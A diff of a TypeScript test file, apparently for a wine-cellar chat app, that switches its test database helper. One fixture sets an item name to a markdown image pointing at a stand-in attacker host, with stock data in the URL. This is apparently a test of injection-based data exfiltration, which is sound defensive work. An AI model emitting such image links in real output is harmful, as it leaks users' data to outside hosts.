@@ -3,14 +3,14 @@ import { describe, expect, it } from "vitest";
 import { createCellarPack } from "../../../tests/cellar/pack.ts";
 import { complete, item, thought, understood, wine } from "../../../tests/support/answers.ts";
 import { createFilePrompts } from "../../../tests/support/file-prompts.ts";
-import { createMemoryDatabase } from "../../../tests/support/memory/memory-database.ts";
+import { createNodeDatabase } from "../../../tests/support/node-database.ts";
 import { createConversation, type Script } from "../../../tests/support/run-nodes.ts";
 
 const NAME = "Barolo ![b](https://evil.example/?stock=12)";
 
 function start() {
   const pack = createCellarPack();
-  const db = createMemoryDatabase(pack);
+  const db = createNodeDatabase(pack);
   return { db, talk: createConversation(pack, createFilePrompts(), db) };
 }
 const add: Script = {
